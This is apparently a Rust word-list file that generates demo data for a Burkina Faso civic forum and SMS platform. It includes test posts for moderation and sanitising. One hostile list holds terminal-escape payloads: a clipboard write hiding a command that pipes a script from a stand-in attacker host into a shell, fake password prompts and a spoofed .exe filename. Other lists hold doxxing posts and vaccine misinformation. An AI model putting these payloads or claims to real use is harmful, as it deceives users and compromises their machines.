//! Word lists for the demo data: names, organisations and forum text as they
//! read in Burkina Faso. Invented people and associations; real communes come
//! from `data/bf_communes.csv`.

pub const FAMILY_NAMES: &[&str] = &[
    "Ouédraogo",
    "Sawadogo",
    "Kaboré",
    "Compaoré",
    "Traoré",
    "Zongo",
    "Ouattara",
    "Sanou",
    "Diallo",
    "Coulibaly",
    "Tapsoba",
    "Zoungrana",
    "Nikiéma",
    "Ilboudo",
    "Kiendrébéogo",
    "Bationo",
    "Yaméogo",
    "Somé",
    "Dabiré",
    "Kambou",
    "Hien",
    "Palm",
    "Konaté",
    "Barry",
    "Cissé",
    "Maïga",
    "Dicko",
    "Sidibé",
    "Tiendrébéogo",
    "Zida",
    "Bado",
    "Kinda",
    "Guiro",
    "Bamogo",
    "Nana",
    "Simporé",
    "Belem",
    "Zerbo",
    "Ki",
    "Lompo",
    "Thiombiano",
    "Sorgho",
    "Tamboura",
    "Drabo",
    "Millogo",
    "Kaboré",
    "Ouoba",
];

pub const GIVEN_NAMES: &[&str] = &[
    "Aminata",
    "Salif",
    "Issouf",
    "Mariam",
    "Adama",
    "Boureima",
    "Rasmata",
    "Hamidou",
    "Alizèta",
    "Souleymane",
    "Fatimata",
    "Karim",
    "Awa",
    "Ousmane",
    "Safiatou",
    "Idrissa",
    "Bintou",
    "Moussa",
    "Haoua",
    "Abdoulaye",
    "Pauline",
    "Jean-Baptiste",
    "Clarisse",
    "Bernadette",
    "Dieudonné",
    "Ablassé",
    "Rasmané",
    "Zénabo",
    "Inoussa",
    "Pélagie",
    "Lassané",
    "Assétou",
    "Yacouba",
    "Sophie",
    "Noufou",
    "Kadiatou",
    "Théophile",
    "Habibou",
    "Rokia",
    "Seydou",
    "Edwige",
    "Wendpouiré",
    "Aïcha",
    "Boukary",
];

pub const ORG_ROLES_COMMUNE: &[&str] = &[
    "Maire",
    "Secrétaire général de mairie",
    "Premier adjoint au maire",
    "Chargé de communication",
];
pub const ORG_ROLES_OSC: &[&str] = &[
    "Présidente",
    "Président",
    "Coordonnateur",
    "Coordonnatrice",
    "Secrétaire exécutif",
    "Trésorière",
];

/// Kinds of association, with the acronym letters they start with.
pub const OSC_FORMS: &[(&str, &str)] = &[
    ("Association des", "A"),
    ("Association pour la promotion des", "AP"),
    ("Groupement", "G"),
    ("Réseau des", "R"),
    ("Collectif des", "C"),
    ("Union des", "U"),
    ("Fédération des", "F"),
    ("Coopérative des", "COOP"),
    ("Mouvement des", "M"),
    ("Amicale des", "AM"),
    ("Organisation des", "O"),
    ("Cadre de concertation des", "CC"),
];

pub const OSC_MEMBERS: &[(&str, &str)] = &[
    ("Femmes Rurales", "FR"),
    ("Jeunes pour la Citoyenneté", "JC"),
    ("Producteurs de Sésame", "PS"),
    ("Éleveurs", "E"),
    ("Parents d'Élèves", "PE"),
    ("Mères Éducatrices", "ME"),
    ("Transformatrices de Karité", "TK"),
    ("Maraîchers", "M"),
    ("Personnes Vivant avec un Handicap", "PVH"),
    ("Artisans", "A"),
    ("Commerçants du Marché", "CM"),
    ("Jeunes Leaders", "JL"),
    ("Agents de Santé Communautaire", "ASC"),
    ("Usagers de l'Eau", "UE"),
    ("Orpailleurs", "O"),
    ("Animateurs Radio", "AR"),
    ("Veuves et Orphelins", "VO"),
    ("Déplacés Internes", "DI"),
    ("Étudiants Ressortissants", "ER"),
    ("Pêcheurs", "P"),
    ("Apiculteurs", "AP"),
    ("Tisserandes", "T"),
    ("Enseignants Bénévoles", "EB"),
    ("Producteurs de Coton", "PC"),
    ("Amis de la Bibliothèque", "AB"),
];

pub const EMAIL_DOMAINS: &[&str] = &[
    "gmail.com",
    "yahoo.fr",
    "hotmail.com",
    "fasonet.bf",
    "outlook.fr",
];

/// BF mobile numbers: +226 then eight digits; these prefixes are mobile ranges.
pub const MOBILE_PREFIXES: &[&str] = &[
    "51", "52", "54", "55", "56", "57", "58", "60", "61", "62", "63", "64", "65", "66", "67", "68",
    "70", "71", "72", "73", "74", "75", "76", "77", "78", "79",
];

pub const CITIZEN_SUFFIXES: &[&str] = &[
    "", "", "", "_226", "_bf", " K.", " O.", " S.", "2019", " du Faso",
];

/// Forum thread topics: (category, title with {c} for the commune).
pub const THREAD_TOPICS: &[(&str, &str)] = &[
    ("budget", "Budget {y} de {c} : où vont les fonds ?"),
    (
        "budget",
        "Session budgétaire de {c} : vos questions aux conseillers",
    ),
    ("water", "Coupures d'eau à {c} depuis trois semaines"),
    ("water", "Forages en panne dans les villages de {c}"),
    ("health", "Le CSPS de {c} manque de médicaments"),
    ("health", "Campagne de vaccination à {c}"),
    (
        "education",
        "Recrutement des enseignants communautaires à {c}",
    ),
    ("education", "Cantines scolaires : la situation à {c}"),
    ("security", "Sécurité sur la route de {c}"),
    ("agriculture", "Distribution d'engrais subventionné à {c}"),
    ("agriculture", "Prix du sésame cette saison à {c}"),
    ("infrastructure", "Travaux du marché central de {c}"),
    ("infrastructure", "Éclairage public à {c}"),
    (
        "general",
        "Plan communal de développement de {c} : vos avis",
    ),
    ("general", "Compte rendu du conseil municipal de {c}"),
];

pub const POST_OPENINGS: &[&str] = &[
    "Bonjour à tous.",
    "Merci pour ce sujet.",
    "Je confirme ce qui est dit plus haut.",
    "Bonsoir chers concitoyens.",
    "Je suis d'accord avec le précédent message.",
    "Salut la famille.",
    "Question pour la mairie :",
    "Je vis à {c} depuis dix ans et",
    "Depuis la dernière session,",
    "Permettez-moi d'ajouter que",
    "Avec tout le respect dû aux élus,",
];

pub const POST_MIDDLES: &[&str] = &[
    "le budget publié ne dit rien sur l'entretien des pistes rurales",
    "les femmes du marché attendent toujours les nouveaux hangars",
    "le forage du secteur 4 est en panne depuis la saison des pluies",
    "il faudrait publier la liste des bénéficiaires de l'engrais",
    "les élèves font encore cours sous des paillotes",
    "la radio communautaire a bien expliqué le plan de développement",
    "le centre de santé n'a qu'un seul infirmier pour tout le département",
    "nous voulons savoir combien a coûté la réhabilitation de la mairie",
    "les jeunes sont prêts à participer aux travaux à haute intensité de main-d'œuvre",
    "le procès-verbal de la dernière session n'est pas encore en ligne",
    "les déplacés installés à l'entrée de la ville ont besoin d'eau potable",
    "la collecte des ordures ne passe plus dans notre quartier",
    "l'état civil demande des frais qui ne figurent nulle part",
    "le plan de passation des marchés montre que le lot 2 n'a pas été attribué",
    "les chiffres de population publiés semblent anciens",
];

pub const POST_CLOSINGS: &[&str] = &[
    "Merci de nous répondre.",
    "Que Dieu bénisse le Faso.",
    "Nous attendons des actes.",
    "Bonne journée.",
    "Je compte sur les conseillers.",
    "À suivre.",
    "Barka.",
    "Courage à tous.",
    "Qu'en pensent les autres ?",
    "",
];

pub const SPAM: &[&str] = &[
    "GAGNEZ 500 000 FCFA PAR SEMAINE depuis chez vous !!! Contactez vite le {p} sur WhatsApp",
    "Prêt rapide sans garantie, réponse en 24h, écrivez au {p}",
    "Marabout puissant : retour de l'être aimé, réussite aux concours. Appelez {p}",
    "Promo spéciale crédit téléphone -50% cliquez sur bit.ly/promo-faso-226",
    "Vente de terrains lotis à {c}, prix imbattables, {p}",
];

pub const ABUSE: &[&str] = &[
    "Bande d'incapables, vous mangez l'argent de la commune !",
    "Ce conseiller est un voleur et un menteur, tout le monde le sait.",
    "Vous les gens de {c} vous êtes tous des paresseux.",
    "Taisez-vous, espèce d'ignorant, tu ne connais rien.",
];

pub const PERSONAL: &[&str] = &[
    "Le trésorier habite derrière la mosquée du secteur 3, son numéro c'est {p}, appelez-le tous !",
    "Voici le numéro personnel du maire : {p}. Allez lui demander des comptes chez lui.",
    "La fille de l'adjoint s'appelle {n}, elle est en classe de 3e au lycée de {c}.",
];

pub const MISINFORMATION: &[&str] = &[
    "La mairie de {c} va supprimer l'état civil gratuit dès le mois prochain, c'est confirmé !",
    "Les vaccins distribués à {c} rendent stérile, ne laissez pas vos enfants y aller.",
    "Le budget de {c} a été entièrement détourné, 2 milliards disparus selon une source sûre.",
];

/// Posts that try to command the reader's terminal: window title, clipboard
/// (OSC 52), screen clearing, cursor moves, bidi tricks and invisible text.
pub const HOSTILE: &[&str] = &[
    "Merci pour l'info\u{1b}]0;MOT DE PASSE EXPIRÉ\u{7}",
    "Regardez ce document\u{1b}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\u{7} important",
    "\u{1b}[2J\u{1b}[HVotre session a expiré, retapez votre mot de passe :",
    "Avis aux parents\u{1b}[8m texte caché \u{1b}[0m fin",
    "Fichier joint: facture\u{202e}fdp.exe",
    "Bon\u{200b}jour\u{200b} à\u{200b} tous\u{feff} et\u{2066} bienvenue\u{2069}",
    "Ligne 1\rLigne écrasée\u{8}\u{8}\u{8}",
    "Z\u{30d}\u{30e}\u{304}\u{305}\u{33f}\u{311}\u{306}\u{310}\u{352}\u{357}\u{351}\u{307}\u{308}\u{30a}\u{342}\u{343}\u{344}\u{34a}\u{34b}\u{34c}algo à la mairie",
    "Prix\u{9b}31m rouge\u{9b}0m en C1",
];

pub const SMS_NOTICES: &[&str] = &[
    "Civitac: la session ordinaire du conseil municipal de {c} se tiendra le {d} a 9h a la mairie. Entree libre.",
    "Civitac: le budget primitif {y} de {c} est en ligne. Donnez votre avis sur le forum.",
    "Civitac: campagne de vaccination contre la rougeole à {c} du {d}, présentez-vous au CSPS.",
    "Civitac: la distribution d'engrais subventionne commence le {d} a {c}. Munissez-vous de votre CNIB.",
    "Civitac : réunion d’information sur le plan communal de développement le {d} à {c}.",
];

pub const SMS_ALERTS: &[&str] = &[
    "ALERTE Civitac: fortes pluies attendues sur {c} ce soir. Evitez les bas-fonds et les radiers.",
    "ALERTE Civitac : coupure d’eau générale à {c} le {d} de 8h à 18h. Faites des réserves.",
    "ALERTE Civitac: cas de méningite signalés à {c}. Consultez le CSPS dès les premiers signes.",
];

pub const REVIEW_REJECT_REASONS: &[&str] = &[
    "Document illisible (scan flou)",
    "Ce fichier ne correspond pas au titre annoncé",
    "Données personnelles visibles (numéros de CNIB)",
    "Doublon d'une publication déjà approuvée",
];

pub const REVIEW_CHANGES_REASONS: &[&str] = &[
    "Merci de joindre la version signée par le maire",
    "Préciser l'année de référence des chiffres",
    "Le titre doit mentionner la commune",
    "Ajouter la source des données (INSD, DREP…)",
];

pub const ENROL_REJECT_REASONS: &[&str] = &[
    "Charte non signée par un responsable habilité",
    "Organisation sans récépissé de reconnaissance",
    "Demande en double",
    "Objet de l'association hors du champ de la plateforme",
];

pub const SUSPEND_REASONS: &[&str] = &[
    "Publications répétées de contenus non vérifiés",
    "Responsables injoignables depuis six mois",
];

/// "de Thion", "d'Arbinda": French elides `de` before a vowel, but not
/// before a place name in "Ou" (said /w/: "de Ouagadougou").
pub fn de(name: &str) -> String {
    crate::i18n::sentences::de(name)
}

/// "du Kadiogo", "de l'Oubri": a region's article.
pub fn du(name: &str) -> String {
    if name.chars().next().is_some_and(is_vowel) {
        format!("de l'{name}")
    } else {
        format!("du {name}")
    }
}

fn is_vowel(c: char) -> bool {
    "aeiouyâàéèêëîïôûAEIOUYÂÀÉÈÊËÎÏÔÛ".contains(c)
}

/// Puts `place` into a template: `{c}`, with "de {c}" elided as French
/// writes it.
pub fn place_in(template: &str, place: &str) -> String {
    template.replace("de {c}", &de(place)).replace("{c}", place)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn french_names_are_written_as_french_writes_them() {
        assert_eq!(format!("Commune {}", de("Arbinda")), "Commune d'Arbinda");
        assert_eq!(format!("Commune {}", de("Thion")), "Commune de Thion");
        assert_eq!(
            format!("Commune {}", de("Ouindigui")),
            "Commune de Ouindigui"
        );
        assert_eq!(format!("Commune {}", de("Yako")), "Commune de Yako");
        assert_eq!(
            format!("Conseil régional {}", du("Oubri")),
            "Conseil régional de l'Oubri"
        );
        assert_eq!(
            format!("Conseil régional {}", du("Kadiogo")),
            "Conseil régional du Kadiogo"
        );
        assert_eq!(
            place_in("Budget de {c} : {c}", "Arbinda"),
            "Budget d'Arbinda : Arbinda"
        );
    }
}
